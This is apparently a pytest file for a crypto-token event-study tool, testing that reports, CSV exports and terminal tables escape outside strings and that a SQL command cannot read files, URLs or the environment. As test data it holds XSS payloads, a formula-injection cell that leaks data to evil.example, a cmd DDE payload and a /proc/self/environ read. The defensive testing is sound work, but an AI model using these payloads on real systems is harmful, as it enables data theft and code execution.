"""Outside strings rendered inert (issue 15): HTML reports, CSV for spreadsheets, terminal
tables; `aitokens sql` without file, environment or network access; report text that is true.

Payloads are those of the adversarial run: a CoinGecko coin name with a script, an event
description with an ``onerror`` image, ``=HYPERLINK(...)`` cells.
"""

from __future__ import annotations

import contextlib
import io
import itertools
import sqlite3
from pathlib import Path

import matplotlib
import nbformat
import pandas as pd
import pytest

from flows.cli import main
from flows.cli.render import csv_safe, neutralise_formula, terminal_text

matplotlib.use("Agg")

SCRIPT_NAME = "Numeraire <script>alert(2)</script>"
IMG_DESCRIPTION = "<img src=x onerror=alert(1)>"
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'


def run(args: list[str]) -> tuple[int, str, str]:
    out, err = io.StringIO(), io.StringIO()
    with contextlib.redirect_stdout(out), contextlib.redirect_stderr(err):
        code = main(args)
    return code, out.getvalue(), err.getvalue()


@pytest.fixture(scope="module")
def warehouse(tmp_path_factory, sora_prices_csv) -> Path:
    db = tmp_path_factory.mktemp("render") / "wh.duckdb"
    assert main(["import", str(sora_prices_csv), "--db", str(db)]) == 0
    return db


# ------------------------------------------------------------------------------ HTML
def test_report_html_escapes_markdown_from_outside():
    """Before: nbconvert rendered Markdown outputs with raw HTML passed through."""
    from flows.services.report import _html_exporter

    nb = nbformat.v4.new_notebook()
    cell = nbformat.v4.new_code_cell("display(Markdown(...))")
    text = (
        f"**Event:** {IMG_DESCRIPTION} ({SCRIPT_NAME}) "
        "[details](javascript:alert(3)) and `aitokens ingest`"
    )
    cell.outputs = [
        nbformat.v4.new_output(
            "display_data", data={"text/markdown": text, "text/plain": "Markdown"}
        )
    ]
    nb.cells = [nbformat.v4.new_markdown_cell("# Event study\n\nSome *emphasis*."), cell]
    body, _ = _html_exporter().from_notebook_node(nb)
    assert "<script>alert(2)" not in body
    assert "<img" not in body  # escaped: `&lt;img ... onerror=...&gt;` is text, not a tag
    assert "javascript:alert" not in body
    assert "&lt;script&gt;" in body and "&lt;img" in body  # shown as text, not dropped
    assert "<strong>Event:</strong>" in body and "<code>aitokens ingest</code>" in body
    assert "<em>emphasis</em>" in body  # our own Markdown still renders


def test_report_tables_escape_cells_even_after_format():
    """Before: ``df.style.format({...})`` wrote cells raw into the report."""
    from analysis import plots

    plots.use_report_style()
    frame = pd.DataFrame(
        {"name": [SCRIPT_NAME], "cap": [1.5e9], "first": pd.to_datetime(["2024-02-15"])}
    )
    for styler in (
        frame.style,
        frame.style.format({"cap": "${:,.0f}", "first": "{:%Y-%m-%d}"}).hide(axis="index"),
    ):
        html = styler.to_html()
        assert "<script>" not in html and "&lt;script&gt;alert(2)&lt;/script&gt;" in html
    assert "$1,500,000,000" in frame.style.format({"cap": "${:,.0f}"}).to_html()
    callout = plots.Callout(f"{IMG_DESCRIPTION} run `aitokens ingest`")._repr_html_()
    assert "<img" not in callout and "<code>aitokens ingest</code>" in callout


# ------------------------------------------------------------------------------ CSV, table
@pytest.mark.parametrize(
    ("cell", "expected"),
    [
        (FORMULA, "'" + FORMULA),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("-5", "-5"),  # a number written as text stays a number
        ("+1.5e3", "+1.5e3"),
        ("-12.5%", "-12.5%"),
        ("FET", "FET"),
        (-5.0, -5.0),  # numeric cells are never touched
    ],
)
def test_formula_cells_are_neutralised(cell, expected):
    assert neutralise_formula(cell) == expected


def test_csv_outputs_neutralise_text_cells_but_keep_negative_numbers(warehouse):
    """Before: `sql --format csv` wrote =HYPERLINK(...) cells for a spreadsheet to run."""
    query = (
        f"select '{FORMULA.replace(chr(39), chr(39) * 2)}' as name, -5 as n, "
        "-0.25::double as r, '-7' as text_number"
    )
    code, out, err = run(["sql", query, "--format", "csv", "--db", str(warehouse)])
    assert code == 0, err
    frame = pd.read_csv(io.StringIO(out))
    assert frame.loc[0, "name"] == "'" + FORMULA
    assert frame.loc[0, "n"] == -5 and frame.loc[0, "r"] == -0.25
    assert frame.loc[0, "text_number"] == -7
    assert list(csv_safe(pd.DataFrame({"=x": [1]})).columns) == ["'=x"]


def test_terminal_table_shows_names_verbatim(warehouse):
    """Before: rich read ``[bold]``/``[link=...]`` in a name as markup, and an ANSI escape
    reached the terminal."""
    name = "[bold red]FET[/bold red] [link=http://evil.example]x[/link] \x1b[31mred\x1b[0m"
    query = f"select '{name}' as name, -5 as n"
    code, out, _ = run(["sql", query, "--db", str(warehouse)])
    assert code == 0
    assert "[bold red]FET[/bold red]" in out and "[link=http://evil.example]x[/link]" in out
    assert "\x1b" not in out and "\\x1b[31mred\\x1b[0m" in out
    assert terminal_text("a\rb\x07") == "a\\rb\\x07"


# ------------------------------------------------------------------------------ sql sandbox
@pytest.fixture
def outside(tmp_path: Path) -> dict[str, Path]:
    lite = tmp_path / "other.sqlite"
    sqlite3.connect(lite).execute("CREATE TABLE a (x)").connection.commit()
    csv = tmp_path / "local.csv"
    csv.write_text("a,b\n1,2\n")
    return {"sqlite": lite, "csv": csv}


@pytest.mark.parametrize(
    "query",
    [
        "select content from read_text('/proc/self/environ')",
        "select * from read_csv('{csv}')",
        "select * from '{sqlite}'",
        "select * from sqlite_scan('{sqlite}', 'a')",
        "select * from read_csv('http://127.0.0.1:9/prices.csv')",
        "select * from read_parquet('https://example.com/x.parquet')",
    ],
)
def test_sql_reads_nothing_outside_the_warehouse(warehouse, outside, query):
    """Before: read_text('/proc/self/environ') printed the environment (and an API key in it);
    a SQLite file or URL made DuckDB try to download an extension."""
    code, out, err = run(["sql", query.format(**outside), "--db", str(warehouse)])
    assert code == 2
    assert out == "" and err.count("\n") == 1
    assert "COINGECKO" not in err and "PATH=" not in err
    assert any(p in err for p in ("Permission Error", "not in the catalog", "does not exist"))


def test_sql_allow_files_reads_local_files_but_never_urls(warehouse, outside):
    args = ["--allow-files", "--format", "csv", "--db", str(warehouse)]
    code, out, err = run(["sql", f"select * from read_csv('{outside['csv']}')", *args])
    assert code == 0, err
    assert out == "a,b\n1,2\n"
    code, _, err = run(["sql", "select * from read_csv('http://127.0.0.1:9/p.csv')", *args])
    assert code == 2 and "Permission Error" in err and err.endswith("URLs are never read\n")
    code, _, err = run(["sql", f"select * from '{outside['sqlite']}'", *args])
    assert code == 2  # the sqlite extension is not loaded on demand


# ------------------------------------------------------------------------------ true reports
def test_equity_notes_say_why_held_equities_are_left_out():
    """Before: NVDA/AMD held but excluded read "No single equity is held: run aitokens
    ingest"; and Sora's NVIDIA paragraph was printed for every event."""
    from flows.services.report import equity_notes

    excluded = pd.DataFrame(
        {
            "event": ["e", "e"],
            "asset": ["NVDA", "AMD"],
            "reason": ["no return on day 0", "42 estimation returns < 100"],
        }
    )
    notes = equity_notes(["AMD", "NVDA"], [], excluded)
    assert notes == [
        "AMD, NVDA are held but excluded from the equity leg (AMD: 42 estimation returns < "
        "100; NVDA: no return on day 0)."
    ]
    assert not any("No single equity" in n for n in notes)
    assert equity_notes([], [])[0].startswith("No single equity (asset_class equity) is held")
    assert equity_notes(["NVDA"], ["NVDA"]) == []  # no confounder: no NVIDIA paragraph
    hit = equity_notes(["NVDA"], ["NVDA"], confounders={"NVDA": (4, "NVIDIA Q4 results")})
    assert hit == [
        "NVIDIA Q4 results falls on day +4 of the equities' event window (NYSE sessions): "
        "equity CARs over windows that reach it mix both events."
    ]
    failed = equity_notes(["NVDA"], [], failure="no SPY closes")
    assert failed == ["NVDA is held but excluded from the equity leg (NVDA: no SPY closes)."]


def test_event_notebook_has_no_event_specific_text_in_markdown():
    import json

    from flows.services.report import NOTEBOOK_DIR

    nb = json.loads((NOTEBOOK_DIR / "sora_event_study.ipynb").read_text(encoding="utf-8"))
    prose = "".join("".join(c["source"]) for c in nb["cells"] if c["cell_type"] == "markdown")
    assert "2024-02-21" not in prose and "NVIDIA reported results" not in prose


def test_timeline_labels_never_overlap():
    """Before: labels of events days apart were drawn on top of each other."""
    from analysis import plots

    days = pd.date_range("2023-06-01", "2024-06-30", freq="D")
    levels = pd.DataFrame({"AI tokens": range(100, 100 + len(days))}, index=days)
    dates = ["2024-02-15", "2024-02-16", "2024-02-17", "2024-02-21", "2024-02-22", "2023-11-06"]
    markers = [
        plots.Marker(pd.Timestamp(d), f"event number {i} {d}", "event" if i == 0 else "other")
        for i, d in enumerate(dates)
    ]
    for size in ((12, 5.2), (6, 4)):
        fig = plots.plot_event_timeline(levels, markers, title="t")
        fig.set_size_inches(*size)
        fig.canvas.draw()
        renderer = fig.canvas.get_renderer()
        ax = fig.axes[0]
        boxes = [t.get_window_extent(renderer) for t in ax.texts if t.get_text().startswith("ev")]
        assert len(boxes) == len(markers)
        for a, b in itertools.combinations(boxes, 2):
            assert not a.overlaps(b), (a, b)
        # each label stays close to its own line: at most one label width per neighbour away
        width = max(b.width for b in boxes)
        for text, box in zip(ax.texts, boxes, strict=True):
            line_x = ax.transData.transform((matplotlib.dates.date2num(text.xy[0]), 0))[0]
            assert line_x <= box.x0 <= line_x + width * (len(markers) + 1)
        matplotlib.pyplot.close(fig)
